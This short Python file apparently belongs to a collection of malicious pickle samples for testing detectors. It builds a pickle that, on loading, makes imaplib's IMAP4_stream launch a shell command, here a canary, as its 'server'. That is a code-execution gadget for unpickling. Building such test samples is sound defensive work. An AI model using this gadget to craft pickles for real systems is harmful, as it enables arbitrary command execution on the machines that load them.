"""Imaplib starts a command as its server."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call, shell


def build(canary: str) -> bytes:
    return pickled_call("imaplib", "IMAP4_stream", shell(canary))
